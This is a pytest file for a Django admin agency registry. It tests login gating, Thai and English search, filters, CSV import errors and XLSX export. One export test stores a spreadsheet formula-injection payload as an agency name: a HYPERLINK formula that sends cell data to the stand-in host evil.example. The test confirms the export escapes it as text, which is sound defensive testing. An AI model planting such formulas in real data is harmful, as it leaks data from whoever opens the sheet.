"""The registry in the Django admin: who gets in, filters and search, and file import."""

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from agencies.models import Agency
from agencies.tests.factories import DepartmentFactory, MinistryFactory, ProvinceFactory

HEADERS = "code,name_th,name_en,level,award_group,ministry,province,unit_type,parent,active"


def upload(client, csv_text: str):
    """Send a CSV file to the agency import page, as DGA staff do from the admin."""
    page = client.get(reverse("admin:agencies_agency_import"))
    csv_format = next(
        value for value, label in page.context["form"].fields["format"].choices if label == "csv"
    )
    return client.post(
        reverse("admin:agencies_agency_import"),
        {
            "resource": "0",
            "format": csv_format,
            "import_file": SimpleUploadedFile("agencies.csv", csv_text.encode(), "text/csv"),
        },
    )


def test_anonymous_visitor_is_sent_to_log_in(client):
    response = client.get(reverse("admin:agencies_agency_changelist"))
    assert response.status_code == 302
    assert response.url.startswith(reverse("admin:login"))


@pytest.mark.parametrize("who", ["respondent", "committee_member"])
def test_respondents_and_committee_members_do_not_get_into_the_admin(client, db, request, who):
    client.force_login(request.getfixturevalue(who))
    response = client.get(reverse("admin:agencies_agency_changelist"))
    assert response.status_code == 302
    assert response.url.startswith(reverse("admin:login"))


def test_dga_staff_search_agencies_in_thai_and_english(client, dga_staff):
    DepartmentFactory(code="DRR", name_th="กรมทางหลวงชนบท", name_en="Department of Rural Roads")
    DepartmentFactory(code="DOH", name_th="กรมทางหลวง", name_en="Department of Highways")
    client.force_login(dga_staff)

    thai = client.get(reverse("admin:agencies_agency_changelist"), {"q": "ชนบท"})
    english = client.get(reverse("admin:agencies_agency_changelist"), {"q": "highways"})

    assert [a.code for a in thai.context["cl"].result_list] == ["DRR"]
    assert [a.code for a in english.context["cl"].result_list] == ["DOH"]


def test_dga_staff_filter_agencies_by_level_and_group(client, dga_staff):
    DepartmentFactory(code="SVC", award_group="service")
    DepartmentFactory(code="POL", award_group="policy")
    client.force_login(dga_staff)

    response = client.get(
        reverse("admin:agencies_agency_changelist"),
        {"level": "department", "award_group": "policy"},
    )

    assert [a.code for a in response.context["cl"].result_list] == ["POL"]


def test_agency_list_runs_the_same_queries_whatever_the_number_of_agencies(
    client, dga_staff, django_assert_max_num_queries
):
    client.force_login(dga_staff)
    DepartmentFactory.create_batch(3)
    with django_assert_max_num_queries(12) as small:
        client.get(reverse("admin:agencies_agency_changelist"))
    DepartmentFactory.create_batch(30)
    with django_assert_max_num_queries(12) as large:
        client.get(reverse("admin:agencies_agency_changelist"))
    assert len(large.captured_queries) == len(small.captured_queries)


def test_admin_import_with_a_bad_row_shows_every_error_and_saves_nothing(client, dga_staff):
    MinistryFactory(code="MOT")
    ProvinceFactory(code="TH-50")
    client.force_login(dga_staff)

    response = upload(
        client,
        "\n".join(
            [
                HEADERS,
                "DRR,กรมทางหลวงชนบท,Department of Rural Roads,department,service,MOT,,,,1",
                "DOH,กรมทางหลวง,Department of Highways,department,service,MOT,,,,1",
                "X-1,สำนักงาน,Office,provincial_unit,,,TH-99,,,1",
                "DRR,กรมซ้ำ,Duplicate,department,service,MOT,,,,1",
            ]
        ),
    )

    page = response.content.decode()
    assert response.status_code == 200
    # DGA staff read the errors in Thai, each under its row number and column.
    assert "แถว 3 คอลัมน์ province: ไม่พบรหัสจังหวัด “TH-99”" in page
    assert "แถว 4 คอลัมน์ code: รหัส “DRR” ซ้ำกันในไฟล์ (พบครั้งแรกที่แถว 1)" in page
    assert 'name="import_file_name"' not in page  # no confirm button: nothing can be saved
    assert Agency.objects.count() == 0


def test_admin_import_of_a_good_file_saves_after_confirmation(client, dga_staff):
    MinistryFactory(code="MOT")
    client.force_login(dga_staff)

    preview = upload(
        client,
        f"{HEADERS}\nDRR,กรมทางหลวงชนบท,Department of Rural Roads,department,service,MOT,,,,1",
    )
    confirm_form = preview.context["confirm_form"]
    response = client.post(reverse("admin:agencies_agency_process_import"), confirm_form.initial)

    assert response.status_code == 302
    assert Agency.objects.get(code="DRR").name_en == "Department of Rural Roads"


def test_admin_xlsx_export_holds_names_like_formulas_as_text(client, dga_staff):
    hyperlink = '=HYPERLINK("https://evil.example/?leak="&B2,"ดูผล")'
    DepartmentFactory(code="DRR", name_th=hyperlink, name_en="@SUM(1+1)")
    client.force_login(dga_staff)
    form = client.get(reverse("admin:agencies_agency_export")).context["form"]
    xlsx_format = next(value for value, label in form.fields["format"].choices if label == "xlsx")
    every_column = {name: "on" for name in form.fields if name.startswith("agencyresource_")}

    response = client.post(
        reverse("admin:agencies_agency_export"),
        {"resource": "0", "format": xlsx_format, **every_column},
    )

    sheet = load_workbook(io.BytesIO(response.content)).active
    assert [(cell.data_type, cell.value) for cell in (sheet["B2"], sheet["C2"])] == [
        ("s", f"'{hyperlink}"),
        ("s", "'@SUM(1+1)"),
    ]
